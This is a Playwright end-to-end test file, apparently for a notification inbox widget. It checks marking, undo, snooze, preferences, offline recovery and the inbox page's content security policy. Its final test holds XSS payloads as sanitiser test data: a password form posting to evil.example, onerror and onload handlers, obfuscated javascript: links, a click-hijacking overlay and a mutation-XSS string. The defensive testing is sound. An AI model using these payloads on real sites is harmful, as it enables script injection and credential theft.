// What people do in the widget, in a real Chromium: they read, mark, undo, choose, and lose their connection;
// and what hostile content tries.
import assert from "node:assert/strict";
import { journey, openBrowser, openPage } from "@tidings/testkit/chromium";
import { startTestService } from "@tidings/testkit/service";
import { createWorkflow, email, inApp, trigger } from "@tidings/testkit/verbs";
import { eventually } from "@tidings/testkit/wait";
import type { Page } from "playwright-core";
import { openHost } from "./host-page.ts";

/** What the tests use of a link of the page; the types of browsers are not loaded here. */
type PageLink = {
  textContent: string;
  click(): void;
  getAttribute(name: string): string | null;
  getAttributeNames(): string[];
};

const service = await startTestService();
const { client, url } = service;
const content = { subject: "{{ payload.title }}", body: "{{ payload.text }}" };
await createWorkflow(client, "note", [inApp(content), email()], { name: "Notes", tags: ["team"] });
await createWorkflow(client, "alarm", [inApp(content)], { name: "Alarms", tags: ["system"], severity: "high" });
await createWorkflow(client, "raw", [
  inApp({
    subject: "{{ payload.title }}",
    body: "{{ payload.text | raw }}",
    primaryAction: { label: "{{ payload.title }}" },
    disableOutputSanitization: true,
  }),
]);

const note = (to: string, title: string) => trigger(client, "note", to, { title, text: `About ${title}` });
const row = (page: Page, title: string) => page.locator(".item", { hasText: title });
const stored = async (subscriberId: string, query: object = {}) =>
  (await client("subscriberNotifications.list", { params: { subscriberId }, query: query as never })).body.data;

journey("a message appears in the open list and on the bell at once, and is announced", async (context) => {
  await note("ada", "First");
  const page = await openHost(context, service, "ada");
  await row(page, "First").waitFor();
  await trigger(client, "alarm", "ada", { title: "Fire", text: "Now" });
  await row(page, "Fire").waitFor();
  await page.locator(".badge", { hasText: "2" }).waitFor();
  assert.match((await page.locator(".bell").getAttribute("class"))!, /severity-high/);
  assert.equal(await page.locator(".bell").getAttribute("aria-label"), "Notifications, 2 unread");
  await page.getByText("Urgent", { exact: false }).first().waitFor({ state: "attached" });
  const title = await row(page, "Fire").locator("time").getAttribute("title");
  assert.match(title!, /\d{4}/, "the exact time is shown on hover");
});

journey("marks show at once, are stored, and can be undone", async (context) => {
  for (const title of ["Red", "Green", "Blue"]) await note("bea", title);
  const page = await openHost(context, service, "bea");
  await row(page, "Red").hover();
  await row(page, "Red").getByRole("button", { name: "Mark as read" }).click();
  await eventually(async () => (await stored("bea", { read: true })).length === 1, "the read mark");
  await row(page, "Red").getByRole("button", { name: "Mark as unread" }).click();
  await eventually(async () => (await stored("bea", { read: true })).length === 0, "the unread mark");

  await row(page, "Green").hover();
  await row(page, "Green").getByRole("button", { name: "Archive" }).click();
  await row(page, "Green").waitFor({ state: "detached" });
  await eventually(async () => (await stored("bea", { archived: true })).length === 1, "the archived message");
  await page.getByRole("button", { name: "Undo" }).click();
  await row(page, "Green").waitFor();
  await eventually(async () => (await stored("bea", { archived: true })).length === 0, "the message is back");
  assert.equal((await stored("bea", { read: false })).length, 3, "it is unread, as it was");

  await row(page, "Blue").hover();
  await row(page, "Blue").getByRole("button", { name: "Snooze" }).click();
  await page.getByRole("menuitem", { name: "Tomorrow" }).click();
  await row(page, "Blue").waitFor({ state: "detached" });
  await eventually(async () => (await stored("bea", { snoozed: true })).length === 1, "the snoozed message");
  await page.getByRole("button", { name: "Show: Inbox" }).click();
  await page.getByRole("menuitemradio", { name: "Snoozed" }).click();
  await row(page, "Blue").waitFor();
  await row(page, "Blue").hover();
  await row(page, "Blue").getByRole("button", { name: "Unsnooze" }).click();
  await page.getByText("Nothing snoozed").waitFor();

  await page.getByRole("button", { name: "Show: Snoozed" }).click();
  await page.getByRole("menuitemradio", { name: "Inbox" }).click();
  await row(page, "Blue").waitFor();
  await page.getByRole("button", { name: "Mark all as read" }).click();
  await page.locator(".badge").waitFor({ state: "hidden" });
  await eventually(async () => (await stored("bea", { read: false })).length === 0, "all are read");
  await page.getByRole("button", { name: "Undo" }).click();
  await page.locator(".badge", { hasText: "3" }).waitFor();
  await eventually(async () => (await stored("bea", { read: false })).length === 3, "all are unread again");
  await page.getByRole("button", { name: "More actions" }).click();
  await page.getByRole("menuitem", { name: "Archive all" }).click();
  await page.getByText("You're all caught up").waitFor();
  await page.getByRole("button", { name: "Undo" }).click();
  for (const title of ["Red", "Green", "Blue"]) await row(page, title).waitFor();
});

journey("preferences and the schedule are changed and kept", async (context) => {
  const offered = { amount: 1, unit: "hours", allowFrequencyChoice: true, frequencies: ["daily", "weekly"] };
  const digest = { name: "Digest", type: "digest" as const, controlValues: offered };
  await createWorkflow(client, "summary", [digest, email()], { name: "Summary" });
  const page = await openHost(context, service, "gina");
  await page.getByRole("button", { name: "Preferences" }).click();
  await page.locator("summary", { hasText: "Notes" }).click();
  const choices = page.getByRole("group", { name: "Notes" });
  await choices.getByRole("switch", { name: "Email" }).click();
  const read = async () => (await client("subscribers.retrievePreferences", { params: { subscriberId: "gina" } })).body;
  await eventually(async () => {
    const entry = (await read()).workflows.find(({ workflow }) => workflow.name === "Notes");
    return entry?.channels.email === false && entry.channels.in_app === true;
  }, "the choice");
  await page.locator("summary", { hasText: "Summary" }).click();
  const often = page.getByRole("group", { name: "Summary" }).getByLabel("How often");
  assert.deepEqual(await often.locator("option").allTextContents(), ["Default", "Daily", "Weekly"]);
  for (const [option, stored] of [
    ["Weekly", "weekly"],
    ["Default", null],
  ] as const) {
    await often.selectOption(option);
    await eventually(
      async () =>
        (await read()).workflows.find(({ workflow }) => workflow.name === "Summary")?.digestFrequency === stored,
      `the choice ${option}`,
    );
  }
  await page.getByRole("switch", { name: "Only deliver during set hours" }).click();
  await page.getByLabel("Monday, from").fill("21:30");
  await page.getByLabel("Monday, from").blur();
  await eventually(async () => {
    const { schedule } = (await read()).global;
    return schedule?.isEnabled && schedule.weeklySchedule?.monday?.hours?.[0]?.start === "09:30 PM";
  }, "the schedule");
  assert.equal((await read()).global.schedule?.weeklySchedule?.sunday, undefined);
  await page.getByRole("button", { name: "Back" }).click();
  await page.getByText("You're all caught up").waitFor();
});

journey("offline and back: the list catches up by itself", async (context) => {
  await note("olga", "Before");
  await note("olga", "Kept");
  const browser = await openBrowser(context);
  const page = await openHost(context, service, "olga", { browser, hasErrors: true });
  await row(page, "Before").waitFor();
  const [, before] = (await client("subscriberNotifications.list", { params: { subscriberId: "olga" } })).body.data;
  await browser.setOffline(true);
  await page.getByText("You're offline. We'll update when you're back.").waitFor();
  await note("olga", "Meanwhile");
  await client("subscriberNotifications.archive", {
    params: { subscriberId: "olga", notificationId: before!.id },
  });
  // A mark made meanwhile shows at once, and is sent later.
  await row(page, "Kept").hover();
  await row(page, "Kept").getByRole("button", { name: "Mark as read" }).click();
  await row(page, "Kept").getByRole("button", { name: "Mark as unread" }).waitFor();
  await page.locator(".badge", { hasText: "1" }).waitFor();
  await browser.setOffline(false);
  await row(page, "Meanwhile").waitFor();
  await page.getByText("You're offline").waitFor({ state: "detached" });
  await eventually(
    async () =>
      (await client("subscriberNotifications.list", { params: { subscriberId: "olga" } })).body.data[1]?.isRead,
    "the mark to be stored",
  );
  assert.equal(await page.getByText("Your change couldn't be saved").count(), 0);
  // A mark is not repeated by the stream: the visible page was read again.
  await row(page, "Before").waitFor({ state: "detached" });
});

journey("the page /inbox sends the example workflow to both inboxes, without a key in the page", async (context) => {
  const page = await openPage(context, await openBrowser(context));
  const answer = await page.goto(`${url}/inbox`);
  assert.match(
    answer!.headers()["content-security-policy"]!,
    /^default-src 'none'.*script-src 'self'; connect-src 'self'/,
  );
  const text = await answer!.text();
  assert.ok(!text.includes(service.apiKey) && !/<script(?![^>]*src=)/.test(text), "no key, no inline script");
  const items = page.locator("tidings-inbox[mode=inline] .item");
  await page.locator("tidings-inbox[mode=inline]").locator(".item, .empty").first().waitFor();
  const before = await items.count();
  await page.getByRole("button", { name: "Send a notification" }).click();
  await page.getByText("Sent.").waitFor();
  await eventually(async () => (await items.count()) === before + 1 || before >= 15, "the new message");
  await page.locator(".badge").waitFor();
});

journey("hostile content runs nothing and leads nowhere", async (context) => {
  const text = [
    '<form action="https://evil.example"><input name="password"></form><b>Bold</b>',
    '<img src="x" onerror="globalThis.hacked = 1"><svg onload="globalThis.hacked = 1"><script>globalThis.hacked = 1</script></svg>',
    '<script>globalThis.hacked = 1</script><style>* { display: none }</style><iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    '<a href="javascript:globalThis.hacked = 1">bad</a><a href="&#106;ava&#9;script:globalThis.hacked = 1">worse</a>',
    '<a href="https://example.com" onclick="globalThis.hacked = 1" style="position: fixed; inset: 0">good</a>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=globalThis.hacked=1&gt;'>",
  ].join("");
  await trigger(client, "raw", "hera", { title: "<img src=x onerror='globalThis.hacked = 1'>Title", text });
  const page = await openHost(context, service, "hera");
  await page.locator(".body b", { hasText: "Bold" }).waitFor();
  const body = page.locator(".body");
  assert.equal(await body.locator("img, svg, script, style, iframe, form, input, math").count(), 0);
  const links = await body
    .locator("a")
    .evaluateAll((all: unknown[]) =>
      (all as PageLink[]).map((link) => [
        link.textContent,
        link.getAttributeNames().sort().join(" "),
        link.getAttribute("href"),
      ]),
    );
  assert.deepEqual(links, [
    ["bad", "tabindex", null],
    ["worse", "tabindex", null],
    ["good", "href rel tabindex target", "https://example.com"],
  ]);
  assert.match((await page.locator(".subject").textContent())!, /<img src=x/, "a subject is text");
  await page.getByRole("button", { name: "<img src=x onerror='globalThis.hacked = 1'>Title", exact: true }).waitFor();
  for (const link of await body.locator("a").all())
    await link.evaluate((element: unknown) => (element as PageLink).click());
  assert.equal(await page.evaluate("globalThis.hacked"), undefined);
});
